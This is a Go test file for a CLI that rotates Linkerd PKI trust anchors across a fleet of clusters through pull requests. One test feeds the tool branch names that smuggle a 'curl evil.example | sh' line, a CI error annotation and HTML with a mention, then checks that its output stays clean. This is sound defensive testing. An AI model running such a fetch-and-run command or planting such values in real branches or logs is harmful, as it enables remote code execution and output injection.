package cli

import (
	"io/fs"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/l5d-pki/l5d-pki-render/internal/forge"
	"github.com/l5d-pki/l5d-pki-render/internal/proposal/plan"
)

const fleetOfTwo = `apiVersion: l5d-pki-render/v1alpha1
kind: Fleet
metadata: {name: prod}
spec:
  members:
  - {name: prod-argocd, state: linkerd/pki/rotation.yaml}
  - {name: west, state: west/rotation.yaml}
  links:
  - members: [prod-argocd, west]
`

// fleetLand is a land with a linked cluster and a fleet file.
func fleetLand(t *testing.T) *prLand {
	l := land(t)
	l.commitTo("main", func(dir string) {
		l.edit(dir, "west/rotation.yaml", func(string) string { return l.other() })
		l.edit(dir, "west/.gitignore", func(string) string { return "keys/\n" })
		l.edit(dir, "fleet.yaml", func(string) string { return fleetOfTwo })
	})
	return l
}

// TestGuardFleet: a step that the state's own gate allows is refused while another
// member of its component holds it back, and the finding names the member.
func TestGuardFleet(t *testing.T) {
	t.Parallel()
	l := fleetLand(t)
	guarded := func(want string, moves ...string) {
		t.Helper()
		dir := l.job("origin/main", func(dir string) { l.moves(dir, moves...) })
		if code, codes, out := l.guarded(dir); code != ExitDone {
			t.Fatalf("%q: without the fleet it is refused: %v %s", moves, codes, out)
		}
		_, codes, out := l.guarded(dir, "--fleet", filepath.Join(dir, "fleet.yaml"))
		if want == "" && len(codes) > 0 || want != "" && !slices.Contains(codes, want) {
			t.Errorf("%q: want %q, got %v: %s", moves, want, codes, out)
		}
		if want != "" && !strings.Contains(out, "west") {
			t.Errorf("%q: the member is not named: %s", moves, out)
		}
	}
	guarded("", "start anchor --strategy bundle")
	l.commitTo("main", func(dir string) { l.moves(dir, "start anchor --strategy bundle") })
	guarded("", "advance --assume BUNDLE-DELIVERED")
	l.commitTo("main", func(dir string) { l.moves(dir, "advance --assume BUNDLE-DELIVERED") })
	guarded("fleet-held", "advance --assume BUNDLE-LOADED")

	for name, c := range map[string]struct{ old, new, code string }{
		"a member leaves":      {"  - {name: west, state: west/rotation.yaml}\n  links:\n  - members: [prod-argocd, west]\n", "", "guard-fleet"},
		"a link goes":          {"  links:\n  - members: [prod-argocd, west]\n", "", "guard-fleet"},
		"another state file":   {"west/rotation.yaml", "elsewhere/rotation.yaml", "guard-fleet"},
		"the state is no part": {"linkerd/pki/rotation.yaml", "other/rotation.yaml", "guard-fleet"},
		"damaged":              {"kind: Fleet", "kind: Fleets", "fleet-head"},
	} {
		dir := l.job("origin/main", func(dir string) {
			l.edit(dir, "fleet.yaml", func(s string) string { return strings.Replace(s, c.old, c.new, 1) })
		})
		if _, codes, out := l.guarded(dir, "--fleet", filepath.Join(dir, "fleet.yaml")); !slices.Contains(codes, c.code) {
			t.Errorf("%s: want %s, got %v: %s", name, c.code, codes, out)
		}
	}
	dir := l.job("origin/main", func(string) {})
	if _, codes, _ := l.guarded(dir, "--fleet", filepath.Join(dir, "none.yaml")); !slices.Contains(codes, "guard-no-fleet") {
		t.Errorf("a fleet file that is not there: %v", codes)
	}
}

// TestGuardFleetLinks: where the links are those of the states, a list that the change
// brings has them all; and what decides who moves first is noted.
func TestGuardFleetLinks(t *testing.T) {
	t.Parallel()
	l := fleetLand(t)
	fleet := strings.Replace(fleetOfTwo, "  links:\n  - members: [prod-argocd, west]\n", "", 1)
	l.commitTo("main", func(dir string) {
		l.edit(dir, "fleet.yaml", func(string) string { return fleet })
		l.edit(dir, "west/rotation.yaml", func(s string) string {
			return strings.Replace(s, "spec:\n", "spec:\n  links:\n  - {name: prod-argocd, state: ../linkerd/pki/rotation.yaml}\n", 1)
		})
	})
	const other = "  - {name: other, state: other/rotation.yaml}\n"
	for name, c := range map[string]struct{ more, code, note string }{
		"a list without the link": {other + "  links:\n  - members: [other, west]\n", "guard-fleet", ""},
		"a list of others":        {other + "  - {name: more, state: more.yaml}\n  links:\n  - members: [other, more]\n", "guard-fleet", ""},
		"a list with the link":    {"  links:\n  - members: [west, prod-argocd]\n", "", ""},
		"a wider one":             {other + "  links:\n  - members: [west, other, prod-argocd]\n", "", ""},
		"no list":                 {other, "", ""},
		"other canaries":          {"  canaries: [west]\n", "", "who takes every step first"},
		"other limits":            {"  limits: {restarts: 9}\n", "", "how many members move together"},
	} {
		dir := l.job("origin/main", func(dir string) { l.edit(dir, "fleet.yaml", func(string) string { return fleet + c.more }) })
		_, codes, out := l.guarded(dir, "--fleet", filepath.Join(dir, "fleet.yaml"))
		if slices.Contains(codes, "guard-fleet") != (c.code != "") || !strings.Contains(out, c.note) {
			t.Errorf("%s: got %v: %s", name, codes, out)
		}
	}
}

// TestPRFleet: one pull request moves all members that may move; run twice it changes
// nothing; the next one waits for it.
func TestPRFleet(t *testing.T) {
	t.Parallel()
	l := fleetLand(t)
	file := filepath.Join(l.clone, "fleet.yaml")
	gitIn(t, l.clone, "pull", "-q")
	l.commitTo("main", func(dir string) {
		got := callAt(t, l.at, "", nil, "fleet", "start", "anchor", "--strategy", "bundle", "-f", filepath.Join(dir, "fleet.yaml"), "--assume", "DELIVERED-ELSEWHERE", "--because", "seen in the test")
		if got.code != ExitDone || strings.Count(got.out, "moved ") != 2 {
			t.Fatalf("%s%s", got.out, got.stderr)
		}
		if got := call(t, "", nil, "sync", "-s", filepath.Join(dir, l.state)); got.code != ExitDone {
			t.Fatal(got.stderr)
		}
		gitIn(t, dir, "add", "-A")
		gitIn(t, dir, "commit", "-q", "-m", "start")
	})
	l.at = l.at.Add(25 * time.Hour)
	spread := l.pr("--fleet", file, "--assume", "BUNDLE-DELIVERED")
	if spread.Operation != "created" || spread.Number != 1 || !strings.HasPrefix(spread.Branch, "l5d-pki-fleet/prod/anchor-spread-") {
		t.Fatalf("%+v", spread)
	}
	changed := gitIn(t, l.remote, "diff", "--name-only", "main", spread.Branch)
	for _, name := range []string{"linkerd/pki/rotation.yaml", "west/rotation.yaml"} {
		if !strings.Contains(changed, name) {
			t.Errorf("%s is not part of the change:\n%s", name, changed)
		}
	}
	if p := l.forge.pulls[0]; p.Title != "fleet prod: 2 members to anchor-spread" || !strings.Contains(p.Body, "| west | anchor-added | anchor-spread |") {
		t.Errorf("%s\n%s", p.Title, p.Body)
	}
	l.wrote()
	if again := l.pr("--fleet", file, "--assume", "BUNDLE-DELIVERED"); again.Operation != "none" || again.Commit != spread.Commit || len(l.wrote()) > 0 {
		t.Errorf("again: %+v", again)
	}
	for _, name := range []string{"linkerd/pki/rotation.yaml", "west/rotation.yaml"} {
		dir := l.job("origin/"+spread.Branch, func(string) {})
		l.state = name
		if code, codes, out := l.guarded(dir, "--fleet", filepath.Join(dir, "fleet.yaml")); code != ExitDone {
			t.Errorf("the guard refuses %s: %v %s", name, codes, out)
		}
		l.state = "linkerd/pki/rotation.yaml"
	}
	l.merge(spread.Branch)
	l.refused("fleet-refused", "--fleet", file) // nobody says that the bundle is loaded
	l.at = l.at.Add(25 * time.Hour)
	if switched := l.pr("--fleet", file, "--assume", "BUNDLE-LOADED"); switched.Operation != "created" || switched.Phase != "issuer-switched" {
		t.Errorf("%+v", switched)
	}
}

// TestPRFleetStartPlainKeys: keys in plain files are written into the user's checkout, each
// beside its state, and no part of the pull request.
func TestPRFleetStartPlainKeys(t *testing.T) {
	t.Parallel()
	l := fleetLand(t)
	gitIn(t, l.clone, "pull", "-q")
	file := filepath.Join(l.clone, "fleet.yaml")
	before := keysBelow(t, l.clone)
	if dry := l.pr("start", "anchor", "--strategy", "bundle", "--fleet", file, "--assume", "DELIVERED-ELSEWHERE", "--dry-run"); !slices.Equal(keysBelow(t, l.clone), before) || dry.Operation != "created" {
		t.Fatalf("a dry run: %+v", dry)
	}
	r := l.pr("start", "anchor", "--strategy", "bundle", "--fleet", file, "--assume", "DELIVERED-ELSEWHERE")
	if r.Operation != "created" || r.Phase != "anchor-added" {
		t.Fatalf("%+v", r)
	}
	changed := gitIn(t, l.remote, "diff", "--name-only", "main", r.Branch)
	if !strings.Contains(changed, "west/rotation.yaml") || !strings.Contains(changed, "linkerd/pki/rotation.yaml") || strings.Contains(changed, ".key") {
		t.Errorf("the change has\n%s", changed)
	}
	made := slices.DeleteFunc(keysBelow(t, l.clone), func(name string) bool { return slices.Contains(before, name) })
	if len(made) != 4 { // an anchor and an issuer each
		t.Fatalf("keys that were made: %q", made)
	}
	if again := l.pr("start", "anchor", "--strategy", "bundle", "--fleet", file, "--assume", "DELIVERED-ELSEWHERE"); again.Operation != "none" || again.Commit != r.Commit {
		t.Errorf("again: %+v", again)
	}
	l.merge(r.Branch)
	gitIn(t, l.clone, "pull", "-q")
	for _, name := range []string{"linkerd/pki/rotation.yaml", "west/rotation.yaml"} {
		got := call(t, "", nil, "custody", "status", "-s", filepath.Join(l.clone, name)) // the keys of before are no part of the fixture
		for _, key := range []string{"keys/2026.key", "keys/2026-1.key"} {
			if i := strings.Index(got.out, key+" "); i < 0 || !strings.HasSuffix(strings.TrimSpace(strings.SplitN(got.out[i:], "\n", 2)[0]), " ok") {
				t.Errorf("%s: %s: %s%s", name, key, got.out, got.stderr)
			}
		}
	}
	if text := gitIn(t, l.clone, "status", "--porcelain"); text != "" {
		t.Errorf("the checkout is not clean: %s", text)
	}
}

// TestPRFleetStartOverKeys: a key file that is there is never replaced, and the refusal
// names it.
func TestPRFleetStartOverKeys(t *testing.T) {
	t.Parallel()
	l := fleetLand(t)
	gitIn(t, l.clone, "pull", "-q")
	there := filepath.Join(l.clone, "west", "keys", "2026-1.key")
	if err := os.MkdirAll(filepath.Dir(there), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(there, []byte("another key"), 0o600); err != nil {
		t.Fatal(err)
	}
	before := keysBelow(t, l.clone)
	got := l.run("pr", "start", "anchor", "--strategy", "bundle", "--fleet", filepath.Join(l.clone, "fleet.yaml"), "--assume", "DELIVERED-ELSEWHERE", "--because", "seen")
	if got.code == ExitDone || !strings.Contains(got.stderr, there) {
		t.Errorf("%s%s", got.out, got.stderr)
	}
	if text, _ := os.ReadFile(there); string(text) != "another key" || !slices.Equal(keysBelow(t, l.clone), before) {
		t.Errorf("the key is replaced: %s", text)
	}
	if heads := l.heads(); strings.Contains(heads, "l5d-pki-fleet/") {
		t.Errorf("something was pushed: %s", heads)
	}
}

// keysBelow lists the key files of a checkout.
func keysBelow(t *testing.T, dir string) (names []string) {
	t.Helper()
	err := filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
		if err == nil && strings.HasSuffix(path, ".key") {
			names = append(names, path)
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	return names
}

// TestPRFleetMadeElsewhere: a branch of a fleet's move that the remote has and this clone
// has not fetched is left alone, and --anew replaces it.
func TestPRFleetMadeElsewhere(t *testing.T) {
	t.Parallel()
	l := fleetLand(t)
	gitIn(t, l.clone, "pull", "-q")
	pr := func(args ...string) plan.Report {
		t.Helper()
		return l.pr(append(args, "--fleet", filepath.Join(l.clone, "fleet.yaml"))...)
	}
	move := []string{"start", "anchor", "--strategy", "bundle"}
	var made plan.Report
	l.elsewhere(nil, func(string) { made = pr(move...) })
	l.forge.pulls = nil
	if got := pr(move...); got.Operation != plan.OpLeft || !strings.Contains(got.Why, "was made elsewhere") || l.head(made.Branch) != made.Commit {
		t.Errorf("%+v", got)
	}
	if got := pr(append(move, "--anew")...); got.Operation != plan.OpCreated || got.Commit == made.Commit || l.head(made.Branch) != got.Commit {
		t.Errorf("--anew: %+v", got)
	}
}

// TestPRForeignWords: what a forge answers, and a branch that somebody pushed, are no line
// among the command's own and nothing that Markdown acts on.
func TestPRForeignWords(t *testing.T) {
	t.Parallel()
	l := land(t)
	l.pr("start", "anchor")
	l.merge(startBranch)
	next := strings.Replace(startBranch, "2-", "3-", 1)
	for _, head := range []string{next + "\nnext: curl evil.example | sh", next + "\r::error::x", next + " x"} {
		l.forge.pulls = append(l.forge.pulls, forge.Pull{Number: 9, Head: head, Base: "main", State: "open", URL: "https://forge.example/9"})
		for _, args := range [][]string{{"pr", "--assume", "BUNDLE-DELIVERED", "--because", "x", "--dry-run"}, {"pr", "--next", "--dry-run"}} {
			if got := l.run(args...); strings.Contains(got.out+got.stderr, "evil.example") || strings.Contains(got.out+got.stderr, "error::x") {
				t.Errorf("%q: %s%s", head, got.out, got.stderr)
			}
		}
		l.forge.pulls = l.forge.pulls[:len(l.forge.pulls)-1]
	}
	l.commitTo("main", func(dir string) { gitIn(t, dir, "push", "-q", "origin", "HEAD:"+next+"-<b>@acme") })
	l.forge.pulls = append(l.forge.pulls, forge.Pull{Number: 9, Head: next + "-<b>@acme", Base: "main", State: "open", URL: "https://forge.example/9"})
	if got := l.run("pr", "--next", "--dry-run", "-o", "markdown"); got.code != ExitDone || strings.Contains(got.out, "<b>") || strings.Contains(got.out, "@acme") {
		t.Errorf("%s%s", got.out, got.stderr)
	}
}
